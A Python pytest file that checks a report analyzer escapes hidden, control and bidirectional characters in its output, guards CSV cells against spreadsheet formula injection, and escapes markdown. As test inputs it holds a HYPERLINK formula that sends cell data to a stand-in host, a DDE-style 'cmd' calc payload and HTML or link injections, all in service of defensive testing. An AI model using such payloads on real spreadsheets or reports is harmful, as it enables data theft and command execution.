"""Text of strangers in every form: nothing moves a cursor, hides, turns, links or computes."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.model.visible import visible
from analyzer.report.blocks import Grid, Heading, Line
from analyzer.report.csv_text import csv_text
from analyzer.report.html.escape import safe
from analyzer.report.markdown import escape, markdown, pipe_table
from analyzer.report.render_json import document_text
from analyzer.report.rows import render_rows
from analyzer.report.table import table
from analyzer.runs.telling.rows import rows_document

HIDDEN = [
    "\x00", "\x07", "\x08", "\t", "\n", "\r", "\x1b", "\x7f", "\x80", "\x85", "\x9b", "\x9d",
    "\u00ad", "\u061c", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028",
    "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2060", "\u2066", "\u2067",
    "\u2068", "\u2069", "\ufe0f", "\ufeff", "\udc80", "\U000e0041",
]  # fmt: skip
FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'


def hidden_in(text: str) -> list[str]:
    """What a screen would obey, hide or turn around; line ends of our own are none."""
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return [c for c in text if unicodedata.category(c) in kinds and c != "\n"]


@pytest.mark.parametrize("character", HIDDEN)
def test_what_is_not_seen_is_written_out_in_every_form(character: str) -> None:
    name = f"D{character}AI"
    written = f"D{visible(character)}AI"
    assert re.fullmatch(r"D\\u[0-9a-f]{4}AI|D\\U[0-9a-f]{8}AI", written)
    blocks = [Heading(name), Line("label", name), Grid(name, (name,), ((name,),), note=name)]
    forms = {
        "table": table(blocks),
        "rows": render_rows([name], [[name]], "table"),
        "markdown": markdown(blocks),
        "markdown rows": render_rows([name], [[name]], "markdown"),
        "csv": render_rows([name], [[name]], "csv"),
    }
    for form, text in forms.items():
        assert hidden_in(text) == [], form
    if character not in "\t\n":
        assert hidden_in(safe(name)) == []
    assert written in forms["csv"]
    assert written in forms["rows"]
    # For programs the name is what it is; a screen sees an escape.
    document = document_text(rows_document(["n"], [[name]]))
    assert json.loads(document)["rows"] == [{"n": name}]
    assert hidden_in(document) == []


@given(st.text())
def test_whatever_the_text_nothing_of_it_is_hidden(text: str) -> None:
    assert hidden_in(visible(text).replace("\n", "?")) == []
    assert "\n" not in visible(text)


@given(st.text(st.characters(categories=["L", "N", "P", "S"]).filter(lambda c: visible(c) == c)))
def test_letters_digits_and_signs_of_every_script_stay(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "-x",
     "-1e", "-1.2.3", "\uff1d1", "\uff0bA1", "-1 "],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_compute_is_guarded(text: str) -> None:
    [head, row] = csv.reader(io.StringIO(csv_text([text], [[text]])))
    assert head == row == ["'" + visible(text)]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-(10**40), "-" + "1" + "0" * 40),
        (Decimal("-0.000000000000000001"), "-0.000000000000000001"),
        (-1.5, "-1.5"),
        (-1e-9, "-1e-09"),
        (float("-inf"), "-inf"),
        ("-12.50", "-12.50"),
        ("0x12", "0x12"),
        ("WETH", "WETH"),
        ("'=1", "'=1"),
        (None, ""),
        (True, "true"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(value: object, cell: str) -> None:
    assert render_rows(["n"], [[value]], "csv").splitlines()[1] == (cell or '""')


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a|b", "a\\|b"),
        ("`rm`", "\\`rm\\`"),
        ("[x](y)", "\\[x\\](y)"),
        ("<img src=x>", "&lt;img src=x&gt;"),
        ("&lt;", "&amp;lt;"),
        ("https://evil", "https&#58;//evil"),
        ("www.evil.com", "www&#46;evil.com"),
        ("a@evil.com", "a&#64;evil.com"),
        ("~~gone~~", "\\~\\~gone\\~\\~"),
        ("two\nlines", "two lines"),
        ("\\", "\\\\"),
    ],
)
def test_markdown_makes_nothing_of_a_name(text: str, shown: str) -> None:
    assert escape(text) == shown
    assert pipe_table(["n"], [[text]]).splitlines()[2] == f"| {shown} |"
